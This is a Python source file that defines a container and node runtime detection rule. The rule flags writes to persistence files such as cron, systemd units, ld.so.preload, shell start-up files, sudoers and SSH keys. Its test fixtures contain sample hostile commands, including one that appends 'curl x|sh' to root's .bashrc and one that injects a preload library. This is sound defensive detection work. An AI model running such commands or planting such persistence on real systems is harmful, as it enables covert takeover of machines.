"""A write to a file that decides what runs on a machine or who may log in: cron, systemd units, the kubelet's
configuration, the loader's preload list, shell start-up files, sudoers, SSH authorized keys, boot scripts, the
package manager's repositories and database."""

from collections.abc import Mapping
from typing import Any

from vigil.detections.k8s import IMAGE_BUILDERS, built_by_image_builder
from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.fixtures import EXAMPLE_START_NS, in_pod
from vigil.sources.tetragon.fixtures import kprobe, tetragon_record

#: Where a container sees the node's filesystem through a hostPath mount (the path after it is the node's).
HOST_MOUNTS = ("/host", "/hostfs", "/rootfs", "/node", "/host-root")
#: Files and directories, as the node names them, that run code or grant access: (prefix, what it controls).
CONTROL_POINTS = (
    ("/etc/cron", "cron"), ("/var/spool/cron/", "cron"), ("/etc/anacrontab", "cron"),
    ("/etc/systemd/system/", "systemd unit"), ("/lib/systemd/system/", "systemd unit"),
    ("/usr/lib/systemd/system/", "systemd unit"), ("/run/systemd/system/", "systemd unit"),
    ("/etc/systemd/user/", "systemd unit"),
    ("/var/lib/kubelet/config.yaml", "kubelet configuration"), ("/var/lib/kubelet/kubeconfig", "kubelet configuration"),
    ("/etc/kubernetes/kubelet", "kubelet configuration"), ("/etc/default/kubelet", "kubelet configuration"),
    ("/etc/sysconfig/kubelet", "kubelet configuration"),
    ("/etc/ld.so.preload", "loader preload"), ("/etc/ld.so.conf", "loader path"),
    ("/etc/profile", "shell start-up"), ("/etc/bash.bashrc", "shell start-up"), ("/etc/bashrc", "shell start-up"),
    ("/etc/zsh/", "shell start-up"), ("/etc/csh.", "shell start-up"), ("/etc/environment", "shell start-up"),
    ("/etc/sudoers", "sudoers"), ("/etc/rc.local", "boot script"), ("/etc/init.d/", "boot script"),
    ("/etc/rc.d/", "boot script"), ("/etc/update-motd.d/", "login script"), ("/etc/pam.d/", "PAM"),
    ("/etc/apt/sources.list", "package repository"), ("/etc/apt/trusted.gpg", "package signing key"),
    ("/etc/yum.repos.d/", "package repository"), ("/etc/zypp/repos.d/", "package repository"),
    ("/etc/apk/repositories", "package repository"), ("/var/lib/rpm/", "package database"),
)
#: Files in a home directory that a shell runs at start, and the SSH key list that lets someone in.
SHELL_START_FILES = frozenset({".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc",
                               ".zshenv", ".zprofile", ".zlogin", ".cshrc", ".tcshrc", ".login"})
#: Programs whose job is managing these files on a node (package managers install units and cron files).
MANAGERS = frozenset({
    "dpkg", "apt", "apt-get", "unattended-upgr", "yum", "dnf", "microdnf", "rpm", "apk", "zypper", "pacman",
    "systemd", "systemctl", "systemd-sysv-ge", "kubelet", "kubeadm", "cloud-init", "ansible", "puppet", "chef-client",
    "salt-minion", "crontab", "visudo", "useradd", "usermod", "ldconfig", "ldconfig.real", "update-rc.d",
    "google_guest_ag", "google_accounts", "waagent", "amazon-ssm-agen", "sshd",
})


_MOUNT_PREFIXES = tuple(f"{mount}/" for mount in HOST_MOUNTS)
#: Every prefix that can matter, for one C-level test before the lookups (most writes are elsewhere).
_PREFIXES = (*(prefix for prefix, _ in CONTROL_POINTS), "/root/", "/home/")


def node_path(path: str) -> str:
    """The path as the node names it: a container's hostPath mount prefix taken off."""
    if path.startswith(_MOUNT_PREFIXES):
        return path[path.index("/", 1) :]
    return path


def control_point(path: str) -> str:
    """What the file at ``path`` controls ('' for a file that controls nothing here)."""
    path = node_path(path)
    if not path.startswith(_PREFIXES):
        return ""
    found = next((what for prefix, what in CONTROL_POINTS if path.startswith(prefix)), "")
    if found:
        return found
    if path.rpartition("/")[2] in SHELL_START_FILES:
        return "shell start-up"
    return "ssh authorized keys" if "/.ssh/authorized_keys" in path else ""


def written_path(event: Event) -> str:
    """The file a write event changes, or the file ``crontab`` installs from (``crontab -l`` only lists)."""
    if event.kind == "file.write":
        return event.target.path or event.file.path
    if event.kind == "process.exec" and program_name(event) == "crontab":
        listing = {"-l", "-r", "-e"} & set(event.actor.args[1:])
        return "" if listing and "-e" not in listing else "/var/spool/cron/crontabs/"
    return ""


def writes_control_point(event: Event, params: Mapping[str, Any]) -> bool:
    path = written_path(event)
    if not control_point(path):
        return False
    if program_name(event) in MANAGERS and event.kind != "process.exec":
        return False
    if node_path(path) == path and built_by_image_builder(event, params["builder_images"]):
        return False  # an image builder writing the image it builds, in its own root
    # A package's maintainer script or a manager's helper.
    return not {event.actor.parent_exe.rpartition("/")[2], event.actor.grandparent_exe.rpartition("/")[2]} & MANAGERS


def persistence_context(event: Event, params: Mapping[str, Any]) -> dict[str, Any]:
    path = written_path(event)
    in_container = bool(event.container.id or event.k8s.container_id)
    where = container_label(event) if in_container else f"node {event.node}"
    return {"exe": event.actor.exe, "program": program_name(event) or event.actor.exe, "file": path,
            "controls": control_point(path), "through_host_mount": node_path(path) != path,
            "command": " ".join(event.actor.args), "where": where, "node": event.node}


def write_record(program: str, path: str, flags: int) -> dict[str, Any]:
    """The eBPF sensor's record of ``program`` opening ``path`` to write, in a pod."""
    return in_pod({"type": "file_write", "time_ns": EXAMPLE_START_NS, "pid": 7781, "tid": 7781, "ppid": 7770,
                   "uid": 0, "gid": 0, "comm": program, "cgroup_id": 7301, "flags": flags, "mode": 0o644,
                   "path": path, "repeats": 0})


DETECTION = EventDetection(
    id="runtime.node_persistence_write",
    title="Persistence file written (cron, systemd, kubelet, preload, shell start-up, sudoers, SSH keys)",
    alert_title="{program} wrote {controls} file {file} in {where}",
    description=(
        "A process wrote a file that makes code run later or lets someone in: cron tables, systemd units, the "
        "kubelet's configuration, /etc/ld.so.preload, shell start-up files, sudoers, PAM, boot scripts or SSH "
        "authorized_keys, or pointed the package manager at another repository or key (the next install or "
        "update runs the attacker's packages). From a container with the node's filesystem mounted "
        "(/host/etc/cron.d/…) it is a takeover of the node that survives the pod; inside a container it is "
        "persistence the next shell or cron run executes. Package managers, configuration management, the "
        "kubelet and image builders writing the image they build (builder_images, not through a host mount) "
        "are not reported."
    ),
    severity="high",
    mitre=["T1053.003", "T1543.002", "T1574.006", "T1546.004", "T1098.004", "T1548.003"],
    tags=["runtime", "persistence", "privilege_escalation", "node"],
    references=["https://attack.mitre.org/techniques/T1053/003/", "https://attack.mitre.org/techniques/T1574/006/"],
    false_positives=["Node bootstrap scripts and image builds writing units or profiles outside a package manager."],
    kinds=["file.write", "process.exec"],
    paths={"file.write": [f"{mount}{prefix}*" for mount in ("", *HOST_MOUNTS) for prefix in _PREFIXES]},
    exe_names={"process.exec": ["crontab"]},
    params={"builder_images": IMAGE_BUILDERS},
    match=writes_control_point,
    context=persistence_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{file}",
    examples=[
        Example(
            name="a cron job dropped on the node through a hostPath mount (eBPF sensor)",
            source="ebpf",
            fires=True,
            record=write_record("sh", "/host/etc/cron.d/update", 0o1101),
        ),
        Example(
            name="Falco: ld.so.preload written in a container",
            source="falco",
            fires=True,
            record=falco_record(
                "Write below etc", "openat",
                {"proc.exepath": "/bin/busybox", "proc.name": "sh", "proc.cmdline": "sh -c echo /lib/x.so > ...",
                 "fd.name": "/etc/ld.so.preload", "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC"},
                priority="Error",
            ),
        ),
        Example(
            name="a line appended to root's .bashrc (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(
                "process_kprobe", binary="/bin/bash", arguments="-c echo 'curl x|sh' >> /root/.bashrc",
                body=kprobe("security_file_permission", {"file_arg": {"path": "/root/.bashrc"}}, {"int_arg": 2})),
        ),
        Example(
            name="a systemd unit written on the node by a shell",
            source="tetragon",
            fires=True,
            record=tetragon_record(
                "process_kprobe", binary="/usr/bin/tee", arguments="/etc/systemd/system/kworker.service", host=True,
                body=kprobe("security_file_permission", {"file_arg": {"path": "/etc/systemd/system/kworker.service"}},
                            {"int_arg": 2})),
        ),
        Example(
            name="crontab installing a table (Falco)",
            source="falco",
            fires=True,
            record=falco_record(
                "Schedule Cron Jobs", "execve",
                {"proc.exepath": "/usr/bin/crontab", "proc.name": "crontab", "proc.cmdline": "crontab /tmp/c"},
                priority="Notice",
            ),
        ),
        Example(
            name="an apt source added outside apt (Falco)",
            source="falco",
            fires=True,
            record=falco_record(
                "Update Package Repository", "openat",
                {"proc.exepath": "/usr/bin/tee", "proc.name": "tee",
                 "proc.cmdline": "tee /etc/apt/sources.list.d/x.list", "fd.name": "/etc/apt/sources.list.d/x.list",
                 "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC"},
                priority="Notice", host=True,
            ),
        ),
        Example(
            name="a kaniko build adding an apt source to the image it builds (eBPF sensor)",
            source="ebpf",
            fires=False,
            record=in_pod({**write_record("sh", "/etc/apt/sources.list.d/vendor.list", 0o1101), "k8s": {}},
                          namespace="ci", pod="kaniko-x7k2p", container="build",
                          image="gcr.io/kaniko-project/executor:v1.23.2-debug"),
        ),
        Example(
            name="the same image builder writing the node's cron through a host mount",
            source="ebpf",
            fires=True,
            record=in_pod({**write_record("sh", "/host/etc/cron.d/update", 0o1101), "k8s": {}},
                          namespace="ci", pod="kaniko-x7k2p", container="build",
                          image="gcr.io/kaniko-project/executor:v1.23.2-debug"),
        ),
        Example(
            name="crontab -l only lists",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/crontab", arguments="-l"),
        ),
        Example(
            name="dpkg installing a unit on the node",
            source="tetragon",
            fires=False,
            record=tetragon_record(
                "process_kprobe", binary="/usr/bin/dpkg", arguments="-i containerd.deb", host=True,
                body=kprobe("security_file_permission",
                            {"file_arg": {"path": "/lib/systemd/system/containerd.service"}}, {"int_arg": 2})),
        ),
        Example(
            name="reading /etc/profile",
            source="falco",
            fires=False,
            record=falco_record(
                "Custom file audit", "openat",
                {"proc.exepath": "/bin/bash", "proc.name": "bash", "fd.name": "/etc/profile",
                 "evt.arg.flags": "O_RDONLY"},
            ),
        ),
    ],
)
